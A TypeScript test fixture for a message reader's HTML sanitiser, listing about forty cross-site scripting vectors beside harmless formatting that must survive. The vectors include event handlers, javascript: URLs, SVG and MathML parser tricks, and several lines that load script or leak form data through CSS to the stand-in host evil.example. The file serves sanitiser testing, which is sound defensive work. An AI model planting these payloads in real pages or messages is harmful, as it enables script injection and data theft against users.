/**
 * Hostile HTML a message body may carry: each entry tries to run script, load something, or
 * leak data through styles. The sanitiser test checks every one, and the `messages.hostileHtml`
 * scenario puts them all in one inbox message so the reader can be looked at in a real browser.
 */
export const XSS_VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" srcset="x" onerror="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">javascript</a>',
  '<a href="JaVaScRiPt:alert(1)">mayúsculas</a>',
  '<a href="&#106;avascript:alert(1)">entidad</a>',
  '<a href="java&#x09;script:alert(1)">tabulador</a>',
  '<a href=" javascript:alert(1)">espacio</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="#" onclick="alert(1)">onclick</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">pasa el ratón</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>detalles</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>marquesina</marquee>',
  '<x onclick=alert(1)>etiqueta inventada</x>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/leak)">estilo en línea</p>',
  '<div style="width: expression(alert(1))">expresión</div>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>enviar</button></form>',
  '<button formaction="javascript:alert(1)">botón</button>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<img src="https://evil.example/pixel.gif" alt="píxel espía">',
  '<form id="location"><input name="href" value="https://evil.example"></form>',
];

/** Harmless formatting that must survive sanitising (bold, lists, a safe link). */
export const SAFE_HTML =
  '<p>Texto <strong>en negrita</strong>, <em>cursiva</em> y <u>subrayado</u>.</p><ul><li>uno</li><li>dos</li></ul><p><a href="https://example.com/ayuda">enlace seguro</a></p>';

/** One message body holding every vector, between harmless formatting. */
export const HOSTILE_HTML = `${SAFE_HTML}\n${XSS_VECTORS.join('\n')}\n<p>Fin del mensaje.</p>`;
